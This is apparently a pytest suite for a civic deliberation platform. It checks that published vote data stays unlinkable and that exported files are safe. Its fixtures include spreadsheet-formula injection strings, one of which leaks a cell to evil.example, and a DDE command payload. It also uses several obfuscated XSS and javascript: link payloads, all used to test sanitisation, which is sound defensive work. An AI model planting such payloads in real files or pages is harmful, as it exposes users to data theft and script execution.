"""What the platform publishes and shows the public, attacked as the audit of 2026-11-30 did (issue 16,
items 4, 6, 10, 11 and 18): the published files downloaded over HTTP and the live map and room checks
read from a real socket, by someone with no seat or an ordinary one."""

import csv
import importlib
import io
import json
import re
import zipfile
from collections import Counter, defaultdict
from html.parser import HTMLParser

import jsonschema
import pypdf
import pytest
from asgiref.sync import async_to_sync
from channels.db import database_sync_to_async
from django.core.management import call_command
from django.test import Client
from markdown_it import MarkdownIt

from deliberation.document.files import document_schema_text
from deliberation.models import Publication, Question, Role, Theme, Vote
from deliberation.services import analysis, drafts, publications, statements
from deliberation.services.proposals import proposal_submit
from deliberation.services.votes import vote_cast
from tests.factories import ParticipantFactory, ProposalFactory, RoundtableFactory
from tests.support.ws import connect

pytestmark = pytest.mark.django_db(transaction=True)

CHOICES = ("agree", "disagree", "pass")
POLIS = {"agree": 1, "disagree": -1, "pass": 0}


def ids(roundtable, person):
    return {"roundtable_id": roundtable.pk, "participant_id": person.pk}


def download(path: str) -> bytes:
    response = Client().get(path)
    assert response.status_code == 200, path
    return response.content


def csv_rows(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode())))


# 4. Published data links no vote to a named person ----------------------------------------------------


@pytest.fixture
def voted_room():
    """Two questions: the first names its authors live, the second is anonymous. Five people propose and
    vote in both; one of them is the only national government in the room."""
    roundtable = RoundtableFactory()
    named = roundtable.questions.get(order=1)
    anonymous = roundtable.questions.get(order=2)
    anonymous.anonymous = True
    anonymous.save(update_fields=["anonymous"])
    people = [
        ParticipantFactory(roundtable=roundtable, display_name=name, actor_type="citizen")
        for name in ("Amara", "Bruno", "Carmen", "Dario")
    ]
    minister = ParticipantFactory(
        roundtable=roundtable, display_name="Minerva", actor_type="government-national"
    )
    people.append(minister)
    organizer = ParticipantFactory(roundtable=roundtable, display_name="Olga", role=Role.ORGANIZER)
    proposals = {
        named.pk: [
            proposal_submit(**ids(roundtable, author), question_id=named.pk, text=text).result["proposal"]
            for author, text in ((people[0], "Open budgets"), (people[1], "Shared fund"), (minister, "Audit"))
        ],
        anonymous.pk: [
            ProposalFactory(author=author, question=anonymous, text=text).pk
            for author, text in ((people[2], "Train staff"), (minister, "Cut red tape"))
        ],
    }
    for question_proposals in proposals.values():
        for index, proposal in enumerate(question_proposals):
            for number, person in enumerate(people):
                vote_cast(
                    **ids(roundtable, person), proposal_id=proposal, choice=CHOICES[(index + number) % 3]
                )
    # A changed vote: only the latest counts, in the document and in the CSV.
    vote_cast(**ids(roundtable, people[0]), proposal_id=proposals[named.pk][0], choice="disagree")
    publications.document_publish(**ids(roundtable, organizer), slug="led-votes")
    return roundtable, named, anonymous, people, proposals


async def live_author_names(roundtable) -> dict[int, str]:
    """What the live public screen says about who wrote what."""
    watcher, snapshot = await connect(roundtable)
    await watcher.close()
    return {row["id"]: row["author"]["name"] for row in snapshot["proposals"] if row["author"]["name"]}


def test_the_published_json_and_csvs_tie_no_vote_to_a_named_author_nor_name_an_anonymous_author(
    voted_room, tmp_path
):
    roundtable, named, anonymous, people, proposals = voted_room
    base = "/p/led-votes/v1/"
    document = json.loads(download(base + "document.json"))
    jsonschema.validate(document, json.loads(document_schema_text()))
    files = {
        name: download(base + name)
        for order in (1, 2)
        for name in (f"q{order}-comments.csv", f"q{order}-votes.csv")
    }
    bundle = zipfile.ZipFile(io.BytesIO(download(base + "bundle.zip")))
    for order in (1, 2):
        assert bundle.read(f"q{order}/comments.csv") == files[f"q{order}-comments.csv"]
        assert bundle.read(f"q{order}/votes.csv") == files[f"q{order}-votes.csv"]
    assert json.loads(bundle.read("document.json")) == document

    # The attacker's join: the live screen names the authors of question 1; the files give an author
    # number per proposal and a voter number per vote.
    names = async_to_sync(live_author_names)(roundtable)
    assert {names[proposal] for proposal in proposals[named.pk]} == {"Amara", "Bruno", "Minerva"}
    authors = {value for value in document["authors"].values() if value is not None}
    voters = {vote["voter"] for vote in document["votes"]}
    for order in (1, 2):
        authors |= {
            int(row["author-id"]) for row in csv_rows(files[f"q{order}-comments.csv"]) if row["author-id"]
        }
        voters |= {int(row["voter-id"]) for row in csv_rows(files[f"q{order}-votes.csv"])}
    assert authors and voters
    assert not authors & voters, "a voter number is also an author number: the named author's votes"
    for proposal in proposals[named.pk]:
        number = document["authors"][str(proposal)]
        assert [vote for vote in document["votes"] if vote["voter"] == number] == [], names[proposal]

    # Everyone voted in both questions, under numbers that have nothing in common.
    question_of = {proposal: question for question, items in proposals.items() for proposal in items}
    voters_by_question = defaultdict(set)
    for vote in document["votes"]:
        voters_by_question[question_of[vote["proposal"]]].add(vote["voter"])
    assert len(voters_by_question[named.pk]) == len(voters_by_question[anonymous.pk]) == len(people)
    assert not voters_by_question[named.pk] & voters_by_question[anonymous.pk]
    assert voters_by_question[anonymous.pk] == {
        int(row["voter-id"]) for row in csv_rows(files["q2-votes.csv"])
    }

    # The anonymous question: no author number anywhere, and the lone minister's actor type not given.
    assert all(document["authors"][str(proposal)] is None for proposal in proposals[anonymous.pk])
    assert all(row["author-id"] == "" for row in csv_rows(files["q2-comments.csv"]))
    section = next(item for item in document["questions"] if item["id"] == anonymous.pk)
    assert section["anonymous"] is True
    assert {proposal["actor_type"] for proposal in section["proposals"]} == {"citizen", "_other"}

    # Re-analysis still works: the votes CSV gives back every proposal's tally.
    for question in document["questions"][:2]:
        rows = csv_rows(files[f"q{question['order']}-votes.csv"])
        latest = {(row["comment-id"], row["voter-id"]): int(row["vote"]) for row in rows}
        assert len(latest) == len(rows), "one vote per voter per proposal: a voter keeps one number"
        for proposal in question["proposals"]:
            counts = Counter(
                value for (comment, _), value in latest.items() if int(comment) == proposal["id"]
            )
            tally = {choice: counts[POLIS[choice]] for choice in CHOICES}
            assert tally == proposal["tally"]

    # The readable forms name no participant; the command line writes the very files served.
    readable = download(base + "document.md").decode() + download(base).decode()
    readable += " ".join(
        page.extract_text() for page in pypdf.PdfReader(io.BytesIO(download(base + "document.pdf"))).pages
    )
    for person in people:
        assert person.display_name not in readable
    call_command("export_document", roundtable.code, "--format", "csv", "--output", str(tmp_path))
    for name, body in files.items():
        assert (tmp_path / name).read_bytes() == body


# 10. No CSV we publish or export starts a spreadsheet formula --------------------------------------------

FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A1,"Open")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3")


def test_the_published_and_exported_csvs_start_no_spreadsheet_formula(tmp_path):
    roundtable = RoundtableFactory()
    question = roundtable.questions.get(order=1)
    people = [ParticipantFactory(roundtable=roundtable) for _ in range(3)]
    organizer = ParticipantFactory(roundtable=roundtable, role=Role.ORGANIZER)
    written = [
        proposal_submit(**ids(roundtable, people[0]), question_id=question.pk, text=text).result["proposal"]
        for text in FORMULAS
    ]
    for person, choice in zip(people, CHOICES, strict=True):
        vote_cast(**ids(roundtable, person), proposal_id=written[0], choice=choice)
    publications.document_publish(**ids(roundtable, organizer), slug="led-csv")

    comments = download("/p/led-csv/v1/q1-comments.csv")
    bundled = zipfile.ZipFile(io.BytesIO(download("/p/led-csv/v1/bundle.zip"))).read("q1/comments.csv")
    call_command("export_document", roundtable.code, "--format", "csv", "--output", str(tmp_path))
    exported = (tmp_path / "q1-comments.csv").read_bytes()
    for body in (comments, bundled, exported):
        cells = [cell for row in csv.reader(io.StringIO(body.decode())) for cell in row]
        assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}], body
        bodies = [row["comment-body"] for row in csv_rows(body)]
        assert sorted(bodies) == sorted("'" + text for text in FORMULAS), "the text kept, made inert"
    # A vote of -1 is a number, not text: it stays as it is for re-analysis.
    votes = csv_rows(download("/p/led-csv/v1/q1-votes.csv"))
    assert sorted(int(row["vote"]) for row in votes) == [-1, 0, 1]


# 11. document.md is safe in any Markdown viewer ---------------------------------------------------------

HOSTILE = "<script>alert(1)</script><img src=x onerror=alert(2)> [x](javascript:alert(3))"
CONCLUSIONS = """## Agreed

<script>alert('c1')</script>

<img src=x onerror="alert('c2')"> <a href="javascript:alert('c3')" onclick="alert('c4')">raw</a>

[plain](javascript:alert('c5')) [cased](JaVaScRiPt:alert('c6')) [entity](jav&#x61;script:alert('c7'))
[spaced]( java script:alert('c8') ) ![image](data:text/html;base64,PHNjcmlwdD4=) <javascript:alert('c9')>

[reference][evil] and [kept](https://example.org/fund) cite [#{cited}].

[evil]: javascript:alert('c10')
"""


class Elements(HTMLParser):
    """Every element and attribute a browser would build from the HTML."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag, attrs) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))


def test_document_md_rendered_with_raw_html_on_runs_no_script_and_links_to_no_script():
    roundtable = RoundtableFactory(title={"en": "Title " + HOSTILE, "es": "T", "fr": "T"})
    question = roundtable.questions.get(order=1)
    Question.objects.filter(pk=question.pk).update(text={"en": "Question " + HOSTILE})
    author = ParticipantFactory(roundtable=roundtable)
    moderator = ParticipantFactory(roundtable=roundtable, role=Role.MODERATOR)
    organizer = ParticipantFactory(roundtable=roundtable, role=Role.ORGANIZER)
    cited = proposal_submit(**ids(roundtable, author), question_id=question.pk, text="Proposal " + HOSTILE)
    cited = cited.result["proposal"]
    theme = Theme.objects.create(question=question, number=1, name="Theme " + HOSTILE)
    question.proposals.update(theme=theme)
    drafts.commitment_add(
        **ids(roundtable, moderator),
        question_id=question.pk,
        what="Do " + HOSTILE,
        organisation="Org " + HOSTILE,
    )
    statements.statement_put(**ids(roundtable, moderator), question_id=question.pk, text="Check " + HOSTILE)
    drafts.draft_save(
        **ids(roundtable, moderator),
        question_id=question.pk,
        base_version=0,
        text=CONCLUSIONS.replace("{cited}", str(cited)),
    )
    publications.document_publish(
        **ids(roundtable, organizer),
        slug="led-md",
        organizers=["Organizer " + HOSTILE],
        note="Note " + HOSTILE,
    )
    markdown = download("/p/led-md/v1/document.md?lang=en").decode()

    # A careless viewer: raw HTML on, and every link target taken as it is.
    careless = MarkdownIt("commonmark", {"html": True}).enable("table")
    careless.validateLink = lambda url: True
    rendered = careless.render(markdown)
    elements = Elements()
    elements.feed(rendered)
    assert "script" not in {tag for tag, _ in elements.tags}
    assert "img" not in {tag for tag, _ in elements.tags}, "no raw <img>, and no image from data:"
    for tag, attributes in elements.tags:
        assert not [name for name in attributes if name.startswith("on")], (tag, attributes)
        for name in ("href", "src"):
            target = re.sub(r"[\s\x00-\x1f]", "", attributes.get(name, "")).lower()
            assert not target.startswith(("javascript:", "data:", "vbscript:")), (tag, attributes)
    links = {attributes["href"] for tag, attributes in elements.tags if tag == "a" and "href" in attributes}
    assert "https://example.org/fund" in links and f"#proposal-{cited}" in links, "Markdown links still work"
    assert "<h2>Agreed</h2>" in rendered, "the moderators' Markdown is kept"
    # Everyone's words are still there, as text.
    for label in ("Title", "Question", "Proposal", "Theme", "Do", "Org", "Check", "Organizer", "Note"):
        assert f"{label} &lt;script&gt;alert(1)&lt;/script&gt;" in rendered, label


# 6. Hidden tallies cannot be rebuilt from the live opinion map --------------------------------------------


async def next_event(client, kind: str) -> dict:
    """The data of the next event of `kind` this socket receives (earlier ones of other kinds skipped).
    Events after it in the same frame are kept for the next call: over Redis, several often share one."""
    while True:
        frames, client.unread = client.unread, []
        if not frames:
            frames = [await client.receive(timeout=20)]
        for index, frame in enumerate(frames):
            events = frame.get("events", []) if frame["type"] == "events" else []
            for position, event in enumerate(events):
                if event["kind"] == kind:
                    rest = events[position + 1 :]
                    client.unread = ([{"type": "events", "events": rest}] if rest else []) + frames[
                        index + 1 :
                    ]
                    return event["data"]


def per_proposal_figures(opinions: dict) -> bool:
    return bool(
        opinions.get("proposals")
        or opinions["consensus"]
        or opinions["divisive"]
        or any(group["representative"] for group in opinions["groups"])
    )


@database_sync_to_async
def hidden_tallies_room():
    """Six people in two camps on four proposals, with the question's tallies hidden."""
    roundtable = RoundtableFactory()
    question = roundtable.questions.get(order=1)
    question.tallies_hidden = True
    question.save(update_fields=["tallies_hidden"])
    people = [ParticipantFactory(roundtable=roundtable, actor_type="citizen") for _ in range(5)]
    people.append(ParticipantFactory(roundtable=roundtable, actor_type="government-national"))
    moderator = ParticipantFactory(roundtable=roundtable, role=Role.MODERATOR)
    texts = ("Open budgets", "A shared fund", "Fewer rules for companies", "Lower local taxes")
    proposals = [
        proposal_submit(**ids(roundtable, people[index]), question_id=question.pk, text=text).result[
            "proposal"
        ]
        for index, text in enumerate(texts)
    ]
    for number, person in enumerate(people):
        camp = (
            ("agree", "agree", "disagree", "disagree")
            if number % 2
            else ("disagree", "pass", "agree", "agree")
        )
        for proposal, choice in zip(proposals, camp, strict=True):
            vote_cast(**ids(roundtable, person), proposal_id=proposal, choice=choice)
    return roundtable, question, people, moderator, proposals


@pytest.mark.live
async def test_while_tallies_are_hidden_the_live_opinion_map_carries_no_figure_about_any_proposal():
    roundtable, question, people, moderator, proposals = await hidden_tallies_room()
    participant, _ = await connect(roundtable, people[0])
    watcher, _ = await connect(roundtable)
    staff, _ = await connect(roundtable, moderator)
    await database_sync_to_async(analysis.question_analyse)(question_id=question.pk)

    for reader in (participant, watcher):
        data = await next_event(reader, "opinions.updated")
        opinions = data["opinions"]
        assert opinions["groups"] and opinions["points"], "the groups and dots are still shown"
        assert not per_proposal_figures(opinions) and "agree_by_group" not in json.dumps(data)
        for group in opinions["groups"]:
            assert "government-national" not in group["actor_types"], "the lone minister's group stays unsaid"
    staff_opinions = (await next_event(staff, "opinions.updated"))["opinions"]
    assert {int(key) for key in staff_opinions["proposals"]} == set(proposals), "staff see every figure"
    assert all("agree_by_group" in item for item in staff_opinions["proposals"].values())

    # A fresh snapshot says the same, for each kind of reader.
    again, snapshot = await connect(roundtable, people[1])
    [entry] = [item for item in snapshot["opinions"] if item["question"] == question.pk]
    assert entry["opinions"]["groups"] and not per_proposal_figures(entry["opinions"])
    # The map's dots are keyed per question: the person finds theirs; no key follows them elsewhere.
    keys = snapshot["me"]["opinion_keys"]
    assert [point for point in entry["opinions"]["points"] if point[3] == keys[str(question.pk)]]
    assert len(set(keys.values())) == len(keys) == 4
    await again.close()
    staff_again, staff_snapshot = await connect(roundtable, moderator)
    [entry] = [item for item in staff_snapshot["opinions"] if item["question"] == question.pk]
    assert per_proposal_figures(entry["opinions"])
    await staff_again.close()

    # Tallies shown: the figures come to everyone with the switch.
    shown = await staff.command("question.settings", question=question.pk, tallies_hidden=False)
    assert shown["type"] == "ack"
    for reader in (participant, watcher):
        data = await next_event(reader, "question.updated")
        assert per_proposal_figures(data["opinions"])
        # Each proposal's place on the map is the console's: no public screen draws it.
        assert "proposals" not in data["opinions"]
        assert all(view["tally"] is not None for view in data["proposals"].values())
    for client in (participant, watcher, staff):
        await client.close()


# 18. Room checks by actor type show no group smaller than the minimum -------------------------------------


@database_sync_to_async
def room_check_room():
    roundtable = RoundtableFactory()
    minister = ParticipantFactory(roundtable=roundtable, actor_type="government-national")
    citizens = [ParticipantFactory(roundtable=roundtable, actor_type="citizen") for _ in range(4)]
    academics = [ParticipantFactory(roundtable=roundtable, actor_type="academia-research") for _ in range(2)]
    moderator = ParticipantFactory(roundtable=roundtable, role=Role.MODERATOR)
    organizer = ParticipantFactory(roundtable=roundtable, role=Role.ORGANIZER)
    return roundtable, minister, citizens, academics, moderator, organizer


def breakdown_ok(by_actor_type: dict) -> bool:
    """No actor type of fewer than three answers on its own; the lone minister never."""
    return "government-national" not in by_actor_type and all(
        sum(tally.values()) >= 3 for tally in by_actor_type.values()
    )


@pytest.mark.live
async def test_room_check_answers_by_actor_type_never_show_a_group_of_fewer_than_three():
    roundtable, minister, citizens, academics, moderator, organizer = await room_check_room()
    question = await database_sync_to_async(lambda: roundtable.questions.get(order=1).pk)()
    watcher, _ = await connect(roundtable)
    staff, _ = await connect(roundtable, moderator)
    lone, _ = await connect(roundtable, minister)
    put = await staff.command("statement.put", question=question, text="We need a shared fund")
    statement = put["result"]["statement"]
    answered = await lone.command("statement.respond", statement=statement, choice="agree")
    assert answered["type"] == "ack"
    first = await next_event(watcher, "statement.updated")  # the put
    first = await next_event(watcher, "statement.updated")  # the minister's answer
    assert first["statement"]["tally"]["agree"] == 1 and first["statement"]["by_actor_type"] == {}, "withheld"
    for person, choice in [(person, "disagree") for person in citizens] + list(
        zip(academics, ("agree", "pass"), strict=True)
    ):
        await database_sync_to_async(statements.statement_respond)(
            **ids(roundtable, person), statement_id=statement, choice=choice
        )
    for client in (watcher, staff):
        last = {"statement": {"tally": {}}}
        while sum(last["statement"]["tally"].values()) < 7:
            last = await next_event(client, "statement.updated")
            assert breakdown_ok(last["statement"]["by_actor_type"]), last
        assert last["statement"]["by_actor_type"] == {
            "_other": {"agree": 2, "disagree": 0, "pass": 1},  # the minister and the two academics
            "citizen": {"agree": 0, "disagree": 4, "pass": 0},
        }
    fresh, snapshot = await connect(roundtable)
    assert all(breakdown_ok(item["by_actor_type"]) for item in snapshot["statements"])
    for client in (watcher, staff, lone, fresh):
        await client.close()

    # The published document: the same rule in the JSON and in every readable form.
    await database_sync_to_async(publications.document_publish)(
        **ids(roundtable, organizer), slug="led-checks"
    )
    document = json.loads(await database_sync_to_async(download)("/p/led-checks/v1/document.json"))
    [check] = document["questions"][0]["checks"]
    assert breakdown_ok(check["by_actor_type"]) and "_other" in check["by_actor_type"]
    markdown = (await database_sync_to_async(download)("/p/led-checks/v1/document.md?lang=en")).decode()
    check_part = markdown.split("Room check 1", 1)[1].split("###", 1)[0]
    assert "Other actor types: agree 2" in check_part and "National government" not in check_part


def test_versions_published_before_the_fix_are_rewritten_once_without_the_link(voted_room):
    """A version frozen in the old form (one number per person, as author and as voter) is unlinked by
    migration 0007; its texts and tallies stay, and a second run leaves it as it is."""
    from django.apps import apps

    migration = importlib.import_module("deliberation.migrations.0009_published_data")
    roundtable, named, anonymous, people, proposals = voted_room
    publication = Publication.objects.get(roundtable=roundtable)
    old = publication.document
    number = {person.pk: index for index, person in enumerate(people, start=1)}
    votes = Vote.objects.filter(proposal__question__roundtable=roundtable).order_by("updated_at", "id")
    for vote, row in zip(votes, old["votes"], strict=True):
        row["voter"] = number[vote.participant_id]
    old["authors"] = {str(p.pk): number[p.author_id] for q in (named, anonymous) for p in q.proposals.all()}
    for question in old["questions"]:
        del question["anonymous"]
    Publication.objects.filter(pk=publication.pk).update(document=old)

    migration.published_documents_unlink(apps, None)
    rewritten = Publication.objects.get(pk=publication.pk).document
    authors = {value for value in rewritten["authors"].values() if value is not None}
    voters = {vote["voter"] for vote in rewritten["votes"]}
    assert authors and voters and not authors & voters
    assert all(rewritten["authors"][str(proposal)] is None for proposal in proposals[anonymous.pk])
    by_question = defaultdict(set)
    for vote in rewritten["votes"]:
        by_question[vote["proposal"] in proposals[anonymous.pk]].add(vote["voter"])
    assert len(by_question[True]) == len(by_question[False]) == len(people)
    assert not by_question[True] & by_question[False]

    def tallies(document):
        return [(p["id"], p["tally"], p["text"]) for q in document["questions"] for p in q["proposals"]]

    assert tallies(rewritten) == tallies(old), "texts and tallies unchanged"
    jsonschema.validate(rewritten, json.loads(document_schema_text()))

    migration.published_documents_unlink(apps, None)
    assert Publication.objects.get(pk=publication.pk).document == rewritten, "done once"
